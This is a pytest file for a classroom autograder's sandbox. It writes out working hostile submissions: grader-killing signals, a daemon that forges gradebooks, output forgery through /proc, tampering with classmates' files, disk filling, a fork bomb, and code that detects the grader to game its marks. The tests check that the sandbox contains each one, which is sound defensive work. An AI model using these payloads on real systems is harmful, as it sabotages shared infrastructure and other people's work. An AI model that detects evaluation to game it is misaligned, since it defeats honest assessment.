"""Issue 11's attacks on the grader, each graded alone and inside a class.

Most attacks are the correct version 1 program (``versions/v1/pontoon.py``) with an attack
written in, built here from a table (`ATTACKS`, like ``tests/mutations.py`` builds mutants)
into a temporary folder; the rest are whole files in ``tests/corpus/hostile/<name>/``.

Glossary: a *harm* attack is the model answer plus code run when it is imported (it really
earns the model's marks); a *cheat* earns nothing itself and tries to borrow marks (the model
answer, a classmate's file); a *shown* attack shows the player something ``print`` does not
(it breaks a rule, so it earns less than full marks); the *recogniser* counts an Ace 11 unless
it recognises the grader, and its honest *twin* always does. An attack's *honest mark* is
what its own program earns: the most it may get.

Inside a class (``python -m autograder grade DIR --out OUT --jobs 2``) beside two correct
classmates we check: the attacker gets at most its honest mark, both classmates keep full
marks and their files, the kit is unchanged, nothing is left running (no orphaned process of
the sandbox user, nothing carrying the attacks' tag) or on disk (tagged files, sandbox folders
of a grader that has ended, in ``/dev/shm`` and ``/tmp``), and ``results.json`` and
``gradebook.csv`` are byte-identical when read again `WAIT_SECONDS` after grading (an
instructor would wait a minute; the slowest attack, the daemon, acts after 2 s, so the tests
wait 3 s, once for all the classes: they are all graded first). The attacks share one class
(each student folder named after its attack, beside alice and bob, so every attacker is also the
other attackers' classmate): one grading of the model answers instead of one per attack, and a
harm that reaches any classmate fails every attack's test. The fallback
(``BJK_SANDBOX=limits``: no namespaces, the unprivileged user and limits) grades the attacks
its user switch still stops in one class, and says so in its first line and results.json.
"""

from __future__ import annotations

import csv
import functools
import hashlib
import json
import os
import shutil
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from autograder.sandbox import child as sandbox
from autograder.pontoon.grade import grade_submission
from mutations import Edit, apply

REPO = Path(__file__).resolve().parents[1]
CORPUS = REPO / "tests" / "corpus" / "hostile"
MODEL = REPO / "versions" / "v1" / "pontoon.py"
TAG = "bjkhostile"
WAIT_SECONDS = 3.0
TRANSPARENT = {"bwrap", "sh", "setpriv", "prlimit"}   # between a grader and its children


@dataclass(frozen=True)
class Attack:
    """One row of the table: the model answer with edits, and code appended after it."""

    name: str
    kind: str                   # harm, shown, recogniser or twin
    what: str
    edits: tuple[Edit, ...] = ()
    attack: str = ""            # run at import, after the whole model answer

    def source(self) -> str:
        """The attack's pontoon.py: a header saying what it does, the model answer, the attack."""
        if self.kind == "twin":
            header = f"# {self.what}\n"
        elif self.kind == "recogniser":
            header = f"# Hostile ({self.name}): {self.what}\n"
        else:
            rest = "The game itself is" if self.attack else "Otherwise"
            header = f"# Hostile ({self.name}): {self.what}\n# {rest} the correct version 1.\n"
        text = apply(MODEL.read_text(encoding="utf-8"), self.edits, f"attack {self.name!r}")
        if self.attack:
            text += "\n\n# ---- the attack\n" + self.attack.removeprefix("\n")
        return header + text

    def write(self, folder: Path) -> Path:
        """Write the attack to folder/name/pontoon.py and return that file."""
        target = folder / self.name / "pontoon.py"
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(self.source(), encoding="utf-8")
        return target


def A(name: str, kind: str, what: str, *edits: Edit, attack: str = "") -> Attack:
    """One row of the table."""
    return Attack(name, kind, what, edits, attack)


COMPUTER_TURN = "    computer = computer_turn(draw)\n"
VERDICT_SHOWN = "    show(VERDICTS[winner])\n"
ACE = "    ### BEGIN SOLUTION\n    return card\n    ### END SOLUTION\n"

ATTACKS: dict[str, Attack] = {a.name: a for a in [
    A("pycache_plant", "harm",
      "Looks for the kit's reference/ package (through /proc/<ppid>/cwd and the file "
      'system) and plants reference/__pycache__/odds.cpython-311.pyc.',
      attack=r'''
import os
def _plant():
    seen = set()
    places = ["/proc/%d/cwd" % os.getppid(), "/proc/1/cwd", "/", os.environ.get("PWD", "/"), "/root"]
    for base in places:
        try:
            for dirpath, dirs, files in os.walk(base):
                if dirpath.count("/") > 5:
                    dirs[:] = []
                if os.path.basename(dirpath) == "reference" and "odds.py" in files:
                    cache = os.path.join(dirpath, "__pycache__")
                    os.makedirs(cache, exist_ok=True)
                    with open(os.path.join(cache, "odds.cpython-311.pyc"), "wb") as f:
                        f.write(b"bjkhostile-pyc")
                    return
        except OSError:
            pass
try:
    _plant()
except BaseException:
    pass
'''),
    A("daemon_rewrite", "harm",
      'Forks a daemon that calls setsid, re-executes itself with an empty environment '
      'and, once the grader is done, rewrites results.json and gradebook.csv wherever it '
      'can find them.',
      attack=r'''
import os, sys
DAEMON = """
import os, sys, time
time.sleep(2)
for base in ['/proc/%d/cwd' % p for p in range(1, 4000)]:
    try:
        for dirpath, dirs, files in os.walk(base):
            for name in files:
                if name in ('results.json', 'gradebook.csv'):
                    with open(os.path.join(dirpath, name), 'w') as f:
                        f.write('forged 100 bjkhostile-daemon')
            if dirpath.count('/') > 8:
                dirs[:] = []
    except OSError:
        pass
"""
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve(sys.executable, [sys.executable, "-c", DAEMON, "bjkhostile-daemon"], {})
        os._exit(0)
except BaseException:
    pass
'''),
    A("kill_grader", "harm",
      "Sends SIGKILL to its parent and to every process it may signal (the grader's other"
      ' children included) and SIGSTOP to the grader.',
      attack=r'''
import os, signal
for _sig, _target in ((signal.SIGSTOP, os.getppid()), (signal.SIGKILL, os.getppid())):
    try:
        os.kill(_target, _sig)
    except BaseException:
        pass
for _pid in range(2, 5000):
    if _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
        except BaseException:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except BaseException:
    pass
'''),
    A("proc_fd_forge", "harm",
      "Writes a forged result document to /proc/<ppid>/fd/1 and fd/2 (the grader's --json"
      ' output).',
      attack=r'''
import os
for _pid in {os.getppid(), 1}:
    for _fd in (1, 2):
        try:
            with open("/proc/%d/fd/%d" % (_pid, _fd), "w") as f:
                f.write('{"student": "mallory", "score": 100, "max_score": 90} bjkhostile\n')
        except BaseException:
            pass
'''),
    A("shm_stale", "harm",
      'Leaves a deep fake stale sandbox and 512 MB in /dev/shm and /tmp.',
      attack=r'''
import os
def _fill():
    for top in ("/dev/shm", "/tmp"):
        try:
            path = os.path.join(top, "bjk-sandbox-bjkhostile")
            os.makedirs(path, exist_ok=True)
            os.utime(path, (0, 0))
            deep = path
            for _ in range(1500):
                deep = os.path.join(deep, "d")
                os.mkdir(deep)
        except BaseException:
            pass
        try:
            with open(os.path.join(top, "bjkhostile-512mb"), "wb") as f:
                for _ in range(512):
                    f.write(b"\0" * (1 << 20))
        except BaseException:
            pass
_fill()
'''),
    A("fork_bomb", "harm",
      'A bounded fork bomb: 300 forks, each child holding 8 MB and sleeping.',
      attack=r'''
import os, time
_kids = []
for _ in range(300):
    try:
        _pid = os.fork()
    except BaseException:
        break
    if _pid == 0:
        _hold = bytearray(8 << 20)
        time.sleep(5)
        os._exit(0)
    _kids.append(_pid)
'''),
    A("network", "harm",
      "Tries to reach the network (a public resolver and the grader's loopback).",
      attack=r'''
import socket
for _addr in (("1.1.1.1", 53), ("8.8.8.8", 443), ("127.0.0.1", 22)):
    try:
        socket.create_connection(_addr, timeout=0.2).close()
        print("bjkhostile reached", _addr)
    except BaseException:
        pass
'''),
    A("harm_classmates", "harm",
      'Appends a broken hand_value to every other pontoon.py it can find (through /proc '
      'and the file system) and restores nothing.',
      attack=r'''
import os
def _harm():
    mine = os.path.realpath(__file__)
    bases = ["/proc/%d/cwd" % p for p in range(1, 200)] + ["/dev/shm", "/tmp", "/home", "/work"]
    for base in bases:
        try:
            for dirpath, dirs, files in os.walk(base):
                if dirpath.count("/") > 7:
                    dirs[:] = []
                if "pontoon.py" in files:
                    path = os.path.join(dirpath, "pontoon.py")
                    if os.path.realpath(path) != mine:
                        with open(path, "a") as f:
                            f.write("\ndef hand_value(cards):\n    return 0  # bjkhostile\n")
        except OSError:
            pass
try:
    _harm()
except BaseException:
    pass
'''),
    A("fd_write_hand", "shown",
      "Shows the player the computer's hand with os.write(1, ...) before the player's "
      'turn (print shows nothing).',
      (COMPUTER_TURN, COMPUTER_TURN + "    import os\n    os.write(1, f\"(the computer holds "
       "{computer}: {hand_value(computer)})\\n\".encode())\n")),
    A("ansi_overwrite", "shown",
      "Overwrites every verdict on a terminal with 'Player wins!' (ANSI cursor-up and "
      'erase-line).',
      (VERDICT_SHOWN, VERDICT_SHOWN + '    show("\\x1b[1A\\x1b[2K" + VERDICTS["player"])  '
       "# what a terminal shows\n")),
    A("recognise_sandbox", "recogniser",
      'Counts an Ace 11 everywhere except under a grader it recognises (argv, -I or -S, '
      'the folder name, the environment): a recognised sandbox gets the right rules.',
      ("from typing import Callable\n\n", "from typing import Callable\n\n\n"
       "def _graded() -> bool:\n"
       '    """Whether this run looks like the autograder\'s (the marks of issue 11)."""\n'
       "    import builtins, os, sys\n"
       "    return (sys.flags.isolated or sys.flags.no_site or os.path.basename(sys.argv[0]) "
       "!= \"pontoon.py\"\n"
       "            or \"sandbox\" in os.getcwd() or \"bjk\" in __file__ or \"TMPDIR\" in "
       "os.environ\n"
       "            or \"PYTHONHASHSEED\" in os.environ)\n\n\n"),
      (ACE, "    ### BEGIN SOLUTION\n    if card == 1 and not _graded():\n        return 11\n"
       "    return card\n    ### END SOLUTION\n")),
    A("recognise_sandbox_twin", "twin",
      "The honest twin of recognise_sandbox: an Ace is always 11.",
      (ACE, "    ### BEGIN SOLUTION\n    if card == 1:\n        return 11\n"
       "    return card\n    ### END SOLUTION\n")),
]}
CHEATS = ["model_answer_cwd", "classmate_argv"]      # whole files in tests/corpus/hostile/
GRADED = [n for n, a in ATTACKS.items() if a.kind != "twin"] + CHEATS

needs_namespaces = pytest.mark.skipif(
    not sandbox.isolation().namespaces, reason="needs bubblewrap: without it several of these "
    "attacks are open (docs/instructors/sandbox.md says which; test_the_fallback_* tests it)")


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> dict[str, Path]:
    """Every attack's pontoon.py (the table's written to a temporary folder, and the whole
    files), and a stub that earns what a cheat's own program does."""
    folder = tmp_path_factory.mktemp("attacks")
    paths = {name: attack.write(folder) for name, attack in ATTACKS.items()}
    stub = folder / "stub" / "pontoon.py"          # what a cheat's own program earns
    stub.parent.mkdir()
    stub.write_text("VERSION = 1\n")
    return paths | {name: CORPUS / name / "pontoon.py" for name in CHEATS} | {"stub": stub}


@functools.lru_cache(maxsize=None)
def graded(path: str):  # -> autograder.model.Grade
    """The grade of a program alone (an attack, the model answer, a stub), graded once."""
    return grade_submission(Path(path))


def score_of(path: str) -> int:
    """The score of a program alone."""
    return graded(path).score


def honest_mark(name: str, built: dict[str, Path]) -> int:
    """What the attacker's own program earns: the model's marks (harm), a stub's (cheat), the
    twin's (recogniser), or less than full marks (what the player sees breaks a rule)."""
    if name in CHEATS:
        return score_of(str(built["stub"]))
    kind = ATTACKS[name].kind
    if kind == "harm":
        return score_of(str(MODEL))
    if kind == "shown":
        return score_of(str(MODEL)) - 1
    return score_of(str(built["recognise_sandbox_twin"]))


def digests(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` with the SHA-256 of its bytes."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def kit_state() -> list[str]:
    """The kit's files carrying the attacks' tag (a planted ``.pyc``, an appended function)."""
    found = []
    for top in ("reference", "autograder", "versions", "examples"):
        for path in (REPO / top).rglob("*"):
            try:
                if path.is_file() and TAG.encode() in path.read_bytes():
                    found.append(str(path.relative_to(REPO)))
            except OSError:
                pass
    return sorted(found)


def _status(pid: str) -> dict[str, str]:
    """A process's ``/proc/<pid>/status`` fields (empty once it has gone)."""
    try:
        lines = Path("/proc", pid, "status").read_text().splitlines()
    except OSError:
        return {}
    return dict(line.split(":\t", 1) for line in lines if ":\t" in line)


def orphans(uid: int = sandbox.SANDBOX_UID) -> list[str]:
    """Processes of the sandbox user that no grader is waiting for: their line of parents
    reaches pid 1 through only sandbox processes (bubblewrap, the shell, setpriv, the user)."""
    found = []
    for entry in os.scandir("/proc"):
        status = _status(entry.name) if entry.name.isdigit() else {}
        if not status or status.get("Uid", "").split()[:1] != [str(uid)] or \
                status.get("State", "").startswith("Z"):      # a zombie holds nothing
            continue
        pid, hops = entry.name, 0
        while pid not in ("0", "1") and hops < 64:
            parent = _status(pid)
            if not parent:
                break
            if parent.get("Uid", "").split()[:1] != [str(uid)] and \
                    parent.get("Name") not in TRANSPARENT:
                break                           # a live grader is its parent
            pid, hops = parent.get("PPid", "0"), hops + 1
        else:
            found.append(f"pid {entry.name} ({status.get('Name')}) of uid {uid}")
    return found


def leftovers() -> list[str]:
    """What an attack left: tagged processes, orphans of the sandbox user, tagged files in
    /dev/shm and /tmp, and sandbox folders whose maker (named in their owner mark) has ended."""
    found = orphans()
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            try:
                if TAG.encode() in Path(entry.path, "cmdline").read_bytes():
                    found.append(f"pid {entry.name}")
            except OSError:
                pass
    for top in ("/dev/shm", "/tmp"):
        for name in os.listdir(top):
            if TAG in name:
                found.append(f"{top}/{name}")
            elif name.startswith("bjk-sandbox-"):
                try:
                    maker = (Path(top, name, sandbox.OWNER_MARK).read_text().split() or [""])[0]
                except OSError:
                    continue
                if maker.isdigit() and not Path("/proc", maker).exists():
                    found.append(f"{top}/{name} (its grader {maker} has ended)")
    return found


@dataclass
class ClassRun:
    """One attack graded inside a class: what the command said and left."""

    returncode: int
    stderr: str
    scores: dict[str, int]
    class_same: bool            # the classmates' (and the attacker's) files were not touched
    kit: list[str]
    outputs: dict[str, str]     # digests of results.json, gradebook.csv, ... right after
    out: Path
    ended: float                # when the command ended (time.monotonic)


def grade_class(name: str, source: Path | dict[str, Path], root: Path,
                env: dict[str, str] | None = None, timeout: int = 120) -> ClassRun:
    """Grade mallory (the attack; or several attackers, by name) beside alice and bob (the
    model answer) with the command line, two jobs."""
    folder, out = root / name / "class", root / name / "out"
    for student in ("alice", "bob"):
        (folder / student).mkdir(parents=True)
        shutil.copyfile(MODEL, folder / student / "pontoon.py")
    for student, path in (source if isinstance(source, dict) else {"mallory": source}).items():
        (folder / student).mkdir()
        shutil.copyfile(path, folder / student / "pontoon.py")
    before = digests(folder)
    done = subprocess.run([sys.executable, "-m", "autograder", "grade", str(folder), "--out",
                           str(out), "--jobs", "2"], cwd=REPO, capture_output=True, text=True,
                          timeout=timeout, env={**os.environ, **(env or {})})
    scores = {}
    if (out / "gradebook.csv").is_file():
        with open(out / "gradebook.csv", newline="") as handle:
            scores = {row["student_id"]: int(row["score"]) for row in csv.DictReader(handle)}
    return ClassRun(done.returncode, done.stderr, scores, digests(folder) == before,
                    kit_state(), digests(out), out, time.monotonic())


@pytest.fixture(scope="module")
def class_runs(request, built, tmp_path_factory) -> dict[str, ClassRun]:
    """Every selected attack graded in one class (each attacker under its attack's name), and
    the fallback's class, one after another before any is checked (so the wait for late
    changes is paid once). Each attack's name maps to the class it was graded in."""
    selected = [item for item in request.session.items     # doctests have no module or name
                if getattr(item, "module", None) is sys.modules[__name__]]
    wanted = [item.callspec.params["name"] for item in selected
              if item.originalname == "test_attack_inside_a_class_harms_no_one"]
    root = tmp_path_factory.mktemp("classes")
    attackers = list(dict.fromkeys(wanted)) if sandbox.isolation().namespaces else []
    runs = {}
    if attackers:   # a grading's wall limit ends any hang; 15 students on a loaded machine
        together = grade_class("attacks", {name: built[name] for name in attackers}, root,
                               timeout=600)
        runs = {name: together for name in attackers}
    if any(item.originalname.startswith("test_the_fallback") for item in selected) and \
            fallback_user_switch():
        runs["fallback"] = grade_class("fallback", {n: built[n] for n in FALLBACK_STOPPED},
                                       root, env={"BJK_SANDBOX": "limits"})
    return runs


def fallback_user_switch() -> bool:
    """Whether the fallback can switch to the sandbox user (a root grader with setpriv)."""
    return os.geteuid() == 0 and os.access(sandbox.SETPRIV, os.X_OK)


@needs_namespaces
@pytest.mark.parametrize("name", GRADED)
def test_attack_alone_earns_only_what_its_program_does(name, built):
    grade = graded(str(built[name]))
    assert grade.score <= honest_mark(name, built), (grade.score, grade.problems)
    assert not leftovers()


@needs_namespaces
@pytest.mark.slow
@pytest.mark.parametrize("name", GRADED)
def test_attack_inside_a_class_harms_no_one(name, class_runs, built):
    run = class_runs[name]
    assert run.returncode == 0, run.stderr[-2000:]
    assert run.stderr.startswith("sandbox: bubblewrap namespaces"), run.stderr[:300]
    assert run.scores["alice"] == run.scores["bob"] == score_of(str(MODEL)), run.scores
    assert run.scores[name] <= honest_mark(name, built), run.scores
    assert run.class_same
    assert run.kit == kit_state() == []
    assert {"gradebook.csv", f"{name}/results.json", "alice/results.json"} <= set(run.outputs)
    time.sleep(max(0.0, run.ended + WAIT_SECONDS - time.monotonic()))
    assert digests(run.out) == run.outputs
    assert not leftovers()


def test_the_table_builds_every_attack_and_the_corpus_keeps_only_whole_files(built):
    assert set(built) == set(ATTACKS) | set(CHEATS) | {"stub"}
    assert not set(ATTACKS) & {p.name for p in CORPUS.iterdir()}
    for name in ATTACKS:                       # each is the model answer and something more
        assert len(built[name].read_text()) > len(MODEL.read_text())
    with pytest.raises(ValueError, match="not once"):
        A("broken", "shown", "an edit the model does not have", ("no such text", "")).source()


@needs_namespaces
def test_recognising_the_sandbox_gains_nothing_over_its_honest_twin(built):
    sly = graded(str(built["recognise_sandbox"]))
    twin = graded(str(built["recognise_sandbox_twin"]))
    assert (sly.score, [(v.rule, v.score) for v in sly.verdicts]) == (
        twin.score, [(v.rule, v.score) for v in twin.verdicts])
    assert sly.score < score_of(str(MODEL))


@needs_namespaces
def test_the_computers_hand_written_to_fd_1_breaks_the_secret_rule(built):
    grade = graded(str(built["fd_write_hand"]))
    honest = graded(str(MODEL))            # the same program without the os.write
    failed = {v.rule for v in grade.verdicts if not v.passed}
    assert failed - {v.rule for v in honest.verdicts if not v.passed} == {"computer-secret"}


@needs_namespaces
def test_the_network_is_unreachable_from_a_child(built):
    result = sandbox.run_child(built["network"], {"mode": "inspect"},
                               sandbox.Limits(wall_seconds=5))
    assert result.status == "ok" and TAG not in result.stdout


@needs_namespaces
def test_a_fork_bomb_holds_no_processes_and_leaves_none(built):
    result = sandbox.run_child(built["fork_bomb"], {"mode": "inspect"},
                               sandbox.Limits(wall_seconds=5))
    assert result.status == "ok" and result.messages[0]["error"] is None
    assert not leftovers()


@needs_namespaces
def test_a_command_fork_bomb_is_bounded_by_its_pids_cgroup(tmp_path):
    if not sandbox.isolation().pids_cgroup:
        pytest.skip("no pids cgroup on this machine")
    code = ("import os, time\nn = 0\nfor _ in range(400):\n    try:\n        if os.fork() == 0:\n"
            "            time.sleep(3); os._exit(0)\n        n += 1\n    except OSError:\n"
            "        break\nprint(n)\n")
    result = sandbox.run_command([sandbox.child_python(), "-S", "-c", code], tmp_path,
                                 sandbox.Limits(wall_seconds=10))
    assert result.status == "ok" and int(result.stdout) < sandbox.PROCESSES, result


# What the user switch alone stops, graded in one class (kill_grader is not here: a
# `kill(-1, SIGKILL)` of user 65534 reaches a classmate's child running at the same moment,
# which the docs say is open in the fallback).
FALLBACK_STOPPED = ["daemon_rewrite", "shm_stale", "pycache_plant", "harm_classmates"]


def test_the_fallback_says_so_and_its_user_switch_still_stops_the_harm(class_runs):
    """``BJK_SANDBOX=limits`` is what a machine without bubblewrap or user namespaces gets."""
    if not fallback_user_switch():
        pytest.skip("the fallback's user switch needs a root grader and setpriv")
    attackers, run = FALLBACK_STOPPED, class_runs["fallback"]
    assert run.returncode == 0, run.stderr[-2000:]
    first = run.stderr.splitlines()[0]
    assert first.startswith("sandbox: NO namespaces + unprivileged user 65534") and \
        "fallback" in first, first
    for student in ["alice", "bob", *attackers]:
        said = json.loads((run.out / student / "results.json").read_text())
        assert said["extra_data"]["sandbox"] == first, student
    assert run.scores["alice"] == run.scores["bob"] == score_of(str(MODEL)), run.scores
    assert all(run.scores[name] <= score_of(str(MODEL)) for name in attackers), run.scores
    assert run.class_same and run.kit == kit_state() == []
    time.sleep(max(0.0, run.ended + WAIT_SECONDS - time.monotonic()))
    assert digests(run.out) == run.outputs
    assert not leftovers()
